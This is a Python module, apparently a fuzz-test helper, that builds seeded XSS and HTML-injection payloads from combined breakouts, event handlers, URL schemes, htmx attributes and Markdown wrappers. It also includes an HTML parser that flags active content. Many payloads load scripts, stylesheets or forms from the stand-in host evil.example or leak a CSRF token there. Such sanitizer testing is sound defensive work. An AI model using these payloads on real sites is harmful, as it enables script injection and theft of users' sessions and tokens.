"""Hostile texts by combination, from a seed: what breaks out, what acts, how it is spelled, in what
it is wrapped. And a reader that says what of a page could act, by another parser than the
renderer's."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product

HOST = "evil.example"
BREAKS = (
    *("", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>"),
    *("</style>", "</noscript>", "</template>", "</svg>", "\x00", "\u2028", "\\\"';", "{{", "{%"),
)
CALLS = (
    "alert(1)",
    "alert`1`",
    "import('//evil.example/x.js')",
    "location='//evil.example'",
    "&#97;lert(1)",
    "\\u0061lert(1)",
)
HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onstart"),
    *("onanimationstart", "onpointerenter", "oncopy", "onbeforematch"),
)
TAGS = (
    *("img", "svg", "body", "details", "video", "audio", "iframe", "input", "marquee", "object"),
    *("embed", "select", "math", "table", "a", "p", "x", "custom-tag", "form", "button", "dialog"),
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:"),
    *("javascript&colon;", "\x01javascript:", "vbscript:", "data:text/html,", "file:///", "//"),
    *("%6Aavascript:", "jav&#x0A;ascript:", "blob:", "ftp:", "mailto:", "https:", "tel:"),
)
ACTS = (
    *("hx-get", "hx-post", "data-hx-get", "data-hx-post", "hx-on:click", "hx-vals='js:{x}'"),
    *("data-hx-on::load", "hx-trigger", "hx-include", "style", "id", "name", "srcdoc", "ping"),
    *("formaction", "xlink:href", "srcset", "poster", "background", "data-keys", "autofocus"),
)
WHOLE = (
    "<script>{call}</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{{background:url(//evil.example)}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<svg><animate onbegin={call} attributeName=x></svg>",
    "<svg><a xlink:href='javascript:{call}'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template shadowrootmode=open><script>{call}</script></template>",
    "<form id=x action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<input form=x formaction=javascript:{call} type=submit>",
    "<img src=https://evil.example/pixel.png>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<![CDATA[<script>{call}</script>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
)
WRAPS = (
    "{0}",
    "# {0}",
    "> {0}",
    "- {0}",
    "| a | b |\n|---|---|\n| {0} | {0} |",
    "`{0}`",
    "```html\n{0}\n```",
    "```{0}\nx\n```",
    "[x]({0})",
    "[{0}](https://ok.example)",
    "![x]({0})",
    "![{0}](https://evil.example/p.png)",
    "<{0}>",
    '[x](https://ok.example "{0}")',
    "[x][1]\n\n[1]: {0} '{0}'",
    "${0}$",
    "$$\n{0}\n$$",
    "\\[\\text{{{0}}}\\]",
    "\\(\\href{{{0}}}{{x}}\\)",
    "**{0}**",
    "~~{0}~~ &lt;script&gt;",
    "    {0}",
    "{0}\n===",
)


def corpus(size: int, seed: int = 0) -> list[str]:
    """That many different texts, the same ones for a seed."""
    draw = random.Random(seed)
    cores = list(_cores())
    draw.shuffle(cores)
    wrapped = [
        wrap.format(broken + core)
        for core, (wrap, broken) in zip(
            cores * len(WRAPS),
            draw.choices(list(product(WRAPS, BREAKS)), k=len(cores) * len(WRAPS)),
            strict=True,
        )
    ]
    found = list(dict.fromkeys([*cores, *wrapped]))
    draw.shuffle(found)
    assert len(found) >= size, len(found)
    return found[:size]


def _cores() -> Iterator[str]:
    for tag, handler, call in product(TAGS, HANDLERS, CALLS[:3]):
        yield f"<{tag} src=x {handler}={call}>"
        yield f"<{tag}/src=x/{handler}='{call}'//"
    for scheme, call in product(SCHEMES, CALLS):
        yield f"{scheme}{call}"
        yield f"<a href='{scheme}{call}'>x</a>"
    for act, tag in product(ACTS, TAGS):
        yield f"<{tag} {act}=//evil.example>x</{tag}>"
        yield f'" {act}="javascript:alert(1)'
    for whole, call in product(WHOLE, CALLS):
        yield whole.format(call=call)


# Attributes that a browser acts on, wherever they stand in our pages.
ADDRESSES = {
    "src",
    "srcset",
    "href",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "ping",
}
ADDRESSES |= {"xlink:href", "cite", "manifest", "srcdoc"}
NEVER = {"iframe", "object", "embed", "base", "applet", "frame", "frameset", "style", "portal"}


class Page(HTMLParser):
    """What could act in a page of ours: `troubles` is empty where nothing can."""

    def __init__(self, text: str, *, part: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.troubles: list[str] = []
        self.tags = 0
        self._part = part  # rendered text alone: none of our own scripts, ids or htmx
        self._script = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags += 1
        given = {name: value or "" for name, value in attrs}
        if tag in NEVER or (self._part and tag not in INERT):
            self.troubles.append(f"<{tag}>")
        for name, value in given.items():
            said = re.sub(r"[\x00-\x20]", "", value).lower()
            handler = name.startswith(("on", "hx-on", "data-hx-")) or name == "style"
            if handler or (self._part and name not in CALM):
                self.troubles.append(f"{tag} {name}={value}")
            elif name in ADDRESSES or name.startswith("hx-"):
                ours = said.startswith(("/", "?", "#", "data:image/")) and not said.startswith("//")
                out = tag == "a" and name == "href" and said.startswith(("http://", "https://"))
                known = name.startswith("hx-") and HOST not in said and "javascript" not in said
                if not (ours or out or known or said in ("", ".")):
                    self.troubles.append(f"{tag} {name}={value}")
        if tag == "script":
            self._script = given.get("type", "script")
            own = "nonce" in given or given.get("src", "").startswith("/static/")
            if not own and "json" not in self._script:
                self.troubles.append("a script without a nonce")
        if tag == "meta" and given.get("http-equiv"):
            self.troubles.append("a meta that acts")
        if tag == "link" and HOST in given.get("href", ""):
            self.troubles.append("a foreign stylesheet")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = ""

    def handle_data(self, data: str) -> None:
        if self._script and "json" not in self._script and HOST in data:
            self.troubles.append(f"in a script: {data[:80]}")


# Of rendered text: what it may be made of. Formulas are MathML without links.
INERT = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre"),
    *("strong", "em", "s", "code", "a", "table", "thead", "tbody", "tr", "th", "td", "span"),
    *("math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mfrac", "msqrt", "mroot", "mstyle"),
    *("msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd"),
    *("mpadded", "mphantom", "menclose", "mmultiscripts", "mprescripts", "none"),
}
CALM = {
    *("href", "rel", "target", "class", "start", "tabindex"),
    *("display", "mathvariant", "stretchy", "fence", "separator", "form", "accent", "lspace"),
    *("rspace", "linethickness", "columnalign", "columnlines", "rowlines", "movablelimits"),
    *("minsize", "maxsize", "width", "height", "depth", "scriptlevel", "displaystyle", "notation"),
}
